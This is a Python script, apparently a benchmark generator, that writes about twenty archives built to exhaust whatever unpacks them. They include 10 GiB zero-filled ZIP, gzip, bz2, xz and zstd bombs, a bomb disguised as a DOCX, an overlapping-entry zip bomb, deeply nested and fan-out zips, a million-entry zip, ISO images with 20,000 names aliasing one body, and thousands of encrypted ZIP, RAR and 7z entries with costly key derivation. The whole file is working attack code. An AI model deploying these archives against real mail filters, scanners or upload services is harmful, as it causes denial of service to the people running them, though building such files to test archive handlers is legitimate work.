"""Writes archives built to exhaust whoever unpacks them: bench_bombs.py FOLDER. Everything in them is zeros or inert text."""

import bz2
import hashlib
import io
import lzma
import os
import random
import shutil
import struct
import subprocess
import sys
import zipfile
import zlib

MB = 1 << 20
CHUNK = 16 * MB
TEN_GB = 640


def zeros(head, count):
    """A deflate stream of `head` and `count` times 16 MiB of zeros, its length and CRC-32."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    first = packer.compress(head) + packer.flush(zlib.Z_FULL_FLUSH)
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = bytes(CHUNK)
    middle = packer.compress(block) + packer.flush(zlib.Z_FULL_FLUSH)
    crc = zlib.crc32(head)
    for _ in range(count):
        crc = zlib.crc32(block, crc)
    return first + middle * count + zlib.compressobj(9, zlib.DEFLATED, -15).flush(), len(head) + count * CHUNK, crc


def local(name, method, flags, crc, packed, size, extra=b""):
    big = struct.pack("<HHQQ", 1, 16, size, packed) if max(size, packed) >= 0xFFFFFFFF else b""
    a, b = (0xFFFFFFFF, 0xFFFFFFFF) if big else (packed, size)
    return struct.pack("<4s5H3I2H", b"PK\3\4", 45 if big else 20, flags, method, 0, 0x21, crc, a, b, len(name), len(big + extra)) + name + big + extra


def central(name, method, flags, crc, packed, size, at, extra=b""):
    big = struct.pack("<HHQQ", 1, 16, size, packed) if max(size, packed) >= 0xFFFFFFFF else b""
    a, b = (0xFFFFFFFF, 0xFFFFFFFF) if big else (packed, size)
    return struct.pack("<4s6H3I5H2I", b"PK\1\2", 45, 45 if big else 20, flags, method, 0, 0x21, crc, a, b, len(name), len(big + extra), 0, 0, 0, 0, at) + name + big + extra


def ends(count, size, at):
    record = b""
    if count >= 0xFFFF:
        record = struct.pack("<4sQ2H2I4Q", b"PK\6\6", 44, 45, 45, 0, 0, count, count, size, at)
        record += struct.pack("<4sIQI", b"PK\6\7", 0, at + size, 1)
    few = min(count, 0xFFFF)
    return record + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, few, few, size, at, 0)


class Zip:
    def __init__(self):
        self.body, self.directory, self.count = io.BytesIO(), io.BytesIO(), 0

    def add(self, name, method, data, size, crc, flags=0, extra=b""):
        at = self.body.tell()
        self.body.write(local(name, method, flags, crc, len(data), size, extra) + data)
        self.directory.write(central(name, method, flags, crc, len(data), size, at, extra))
        self.count += 1

    def bytes(self):
        directory = self.directory.getvalue()
        return self.body.getvalue() + directory + ends(self.count, len(directory), self.body.tell())


def zipped(name, head=b""):
    archive = Zip()
    archive.add(name, 8, *zeros(head, TEN_GB))
    return archive.bytes()


def document_part():
    archive = Zip()
    for name, text in (
        (b"[Content_Types].xml", b'<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'),
        (b"_rels/.rels", b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="a" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'),
    ):
        archive.add(name, 0, text, len(text), zlib.crc32(text))
    head = b'<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body>'
    archive.add(b"word/document.xml", 8, *zeros(head, TEN_GB))
    return archive.bytes()


def gz():
    stream, size, crc = zeros(b"", TEN_GB)
    return b"\x1f\x8b\x08\0\0\0\0\0\0\xff" + stream + struct.pack("<2I", crc, size & 0xFFFFFFFF)


def command(arguments, data):
    return subprocess.run(arguments, input=data, stdout=subprocess.PIPE, stderr=subprocess.DEVNULL, check=True).stdout


def sevenz(folder):
    """4 GiB: enough, and quicker to make."""
    path, plain = os.path.join(folder, "zeros.7z"), os.path.join(folder, "zeros.bin")
    with open(plain, "wb") as file:
        file.truncate(4 << 30)
    subprocess.run(["7zz", "a", "-mx=1", path, plain], stdout=subprocess.DEVNULL, check=True)
    os.remove(plain)


def overlapping(names, kernel):
    """Every entry quotes the local headers behind it, and all end in one kernel (Fifield, "A better zip bomb")."""
    stream, size, crc = zeros(b"", kernel)
    entries, body = [], b""
    behind = stream
    length = size
    headers = b""
    for index in range(names - 1, -1, -1):
        name = b"%05d" % index
        if headers:
            # A stored block that is the next header, then what that header describes.
            quoted = headers
            behind = struct.pack("<BHH", 0, len(quoted), len(quoted) ^ 0xFFFF) + quoted + behind
            length += len(quoted)
        headers = local(name, 8, 0, 0, len(behind), length)
        entries.append((name, len(behind), length, len(headers)))
    body = headers + behind
    at, directory = 0, b""
    for name, packed, length, header in reversed(entries):
        directory += central(name, 8, 0, 0, packed, length, at)
        at += header + 5
    return body + directory + ends(names, len(directory), len(body))


def layers(fan, depth):
    data = b"MZ"
    for _ in range(depth):
        archive = Zip()
        packer = zlib.compressobj(9, zlib.DEFLATED, -15)
        packed = packer.compress(data) + packer.flush()
        for index in range(fan):
            archive.add(b"%x.zip" % index, 8, packed, len(data), zlib.crc32(data))
        data = archive.bytes()
    return data


def million():
    archive = Zip()
    for index in range(1_000_000):
        archive.add(b"%d" % index, 0, b"", 0, 0)
    return archive.bytes()


def nested():
    data = b"end"
    for _ in range(1000):
        archive = Zip()
        archive.add(b"a.zip", 0, data, len(data), zlib.crc32(data))
        data = archive.bytes()
    return data


def iso(files, sectors):
    """The front of an ISO 9660 image of as many sectors: names, first sectors and lengths of files, one folder."""
    sector = 2048

    def both(value, size="I"):
        return struct.pack("<" + size, value) + struct.pack(">" + size, value)

    def record(name, start, size, flags=0):
        pad = bytes(1 - len(name) % 2)
        fields = both(start) + both(size) + bytes(7) + bytes([flags, 0, 0]) + both(1, "H") + bytes([len(name)])
        return bytes([33 + len(name) + len(pad), 0]) + fields + name + pad

    per = 40
    records = [record(*file) for file in files]
    directory = b"".join(b"".join(records[at:at + per]).ljust(sector, b"\0") for at in range(0, len(records), per))
    volume = bytearray(sector)
    volume[0:7] = b"\1CD001\1"
    volume[80:88] = both(sectors)
    volume[128:132] = both(sector, "H")
    volume[156:190] = record(b"\0", 20, len(directory), 2)
    end = b"\xffCD001\1".ljust(sector, b"\0")
    return (bytes(16 * sector) + bytes(volume) + end).ljust(20 * sector, b"\0") + directory


def shared(kind):
    """20,000 names for the same 60 MB of an image, each from another sector on."""
    body = random.Random(1).randbytes(MB) * 60
    first, size = 2048, 60 * MB - 200 * 2048
    files = [(b"F%05d.%s;1" % (index, kind), first + index % 200, size) for index in range(20_000)]
    return iso(files, first + len(body) // 2048).ljust(first * 2048, b"\0") + body


def locked_zip(aes):
    """20,000 entries, each with a salt of its own."""
    archive, rng = Zip(), random.Random(2)
    for index in range(20_000):
        if aes:
            data = rng.randbytes(16 + 2 + 64 + 10)
            extra = struct.pack("<HHH2sBH", 0x9901, 7, 2, b"AE", 3, 0)
            archive.add(b"%d.doc" % index, 99, data, 64, 0, 1, extra)
        else:
            archive.add(b"%d.doc" % index, 0, rng.randbytes(12 + 64), 64, rng.getrandbits(32), 1)
    return archive.bytes()


def locked_rar5(count, power):
    def number(value):
        out = bytearray()
        while True:
            out.append(value & 0x7F | (0x80 if value > 0x7F else 0))
            value >>= 7
            if not value:
                return bytes(out)

    def header(body):
        body = number(len(body)) + body
        return struct.pack("<I", zlib.crc32(body)) + body

    rng = random.Random(3)
    out = b"Rar!\x1a\7\1\0" + header(number(1) + number(0) + number(0))
    for index in range(count):
        check = rng.randbytes(8)
        record = number(1) + number(0) + number(1) + bytes([power]) + rng.randbytes(32) + check + hashlib.sha256(check).digest()[:4]
        extra = number(len(record)) + record
        name = b"%d.doc" % index
        body = number(0) + number(64) + number(0) + number(0) + number(1) + number(len(name)) + name
        # Packed by storing; the CRC is not there.
        out += header(number(2) + number(3) + number(len(extra)) + number(64) + body + extra) + rng.randbytes(64)
    return out + header(number(5) + number(0) + number(0))


def locked_rar3(count):
    rng = random.Random(4)

    def header(kind, flags, body):
        body = struct.pack("<BHH", kind, flags, 7 + len(body)) + body
        return struct.pack("<H", zlib.crc32(body) & 0xFFFF) + body

    out = b"Rar!\x1a\7\0" + header(0x73, 0, bytes(6))
    for index in range(count):
        name = b"%d.doc" % index
        body = struct.pack("<IIBIIBBHI", 64, 60, 2, rng.getrandbits(32), 0x21, 29, 0x30, len(name), 0x20) + name + rng.randbytes(8)
        out += header(0x74, 0x8404, body) + rng.randbytes(64)
    return out + header(0x7B, 0x4000, b"")


def locked_sevenz(count, power):
    """A folder for every file, each with a salt of its own."""
    rng = random.Random(5)

    def number(value):
        if value < 0x80:
            return bytes([value])
        if value < 0x4000:
            return bytes([0x80 | value >> 8, value & 0xFF])
        return b"\xe0" + struct.pack("<I", value)[:3]

    packed = b"".join(rng.randbytes(64) for _ in range(count))
    folders = b"".join(b"\1\x24\x06\xf1\x07\x01" + bytes([10, 0x80 | power, 0x70]) + rng.randbytes(8) for _ in range(count))
    pack = b"\6" + number(0) + number(count) + b"\x09" + number(64) * count + b"\0"
    unpack = b"\7\x0b" + number(count) + b"\0" + folders + b"\x0c" + number(60) * count
    unpack += b"\x0a\1" + rng.randbytes(4 * count) + b"\0"
    names = b"".join(("%d.doc" % index).encode("utf-16-le") + b"\0\0" for index in range(count))
    files = b"\5" + number(count) + b"\x11" + number(len(names) + 1) + b"\0" + names + b"\0"
    header = b"\1\4" + pack + unpack + b"\0" + files + b"\0"
    start = struct.pack("<QQI", len(packed), len(header), zlib.crc32(header))
    return b"7z\xbc\xaf\x27\x1c\0\4" + struct.pack("<I", zlib.crc32(start)) + start + packed + header


BOMBS = {
    "zeros-bin.zip": lambda: zipped(b"a.bin"),
    "zeros-txt.zip": lambda: zipped(b"a.txt", b"Dear all,\r\n"),
    "zeros-doc.zip": lambda: zipped(b"a.doc", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"),
    "zeros-part.docx": document_part,
    "zeros.gz": gz,
    "zeros.bz2": lambda: bz2.compress(bytes(100 * MB)) * 100,
    "zeros.xz": lambda: lzma.compress(bytes(100 * MB), preset=0) * 100,
    "zeros.zst": lambda: command(["zstd", "-19", "-c"], bytes(100 * MB)) * 100,
    "overlapping.zip": lambda: overlapping(2000, 40),
    "fan-16-5.zip": lambda: layers(16, 5),
    "nested-1000.zip": nested,
    "million.zip": million,
    "shared-bin.iso": lambda: shared(b"BIN"),
    "shared-txt.iso": lambda: shared(b"TXT"),
    "locked-20000-aes.zip": lambda: locked_zip(True),
    "locked-20000-crypto.zip": lambda: locked_zip(False),
    "locked-2000-15.rar": lambda: locked_rar5(2000, 15),
    "locked-50-24.rar": lambda: locked_rar5(50, 24),
    "locked-2000-old.rar": lambda: locked_rar3(2000),
    "locked-2000-19.7z": lambda: locked_sevenz(2000, 19),
    "locked-50-24.7z": lambda: locked_sevenz(50, 24),
}


def main():
    folder = sys.argv[1]
    os.makedirs(folder, exist_ok=True)
    for name, make in BOMBS.items():
        path = os.path.join(folder, name)
        if name.endswith(".zst") and not shutil.which("zstd") or os.path.exists(path):
            continue
        with open(path, "wb") as file:
            file.write(make())
    if shutil.which("7zz") and not os.path.exists(os.path.join(folder, "zeros.7z")):
        sevenz(folder)


if __name__ == "__main__":
    main()
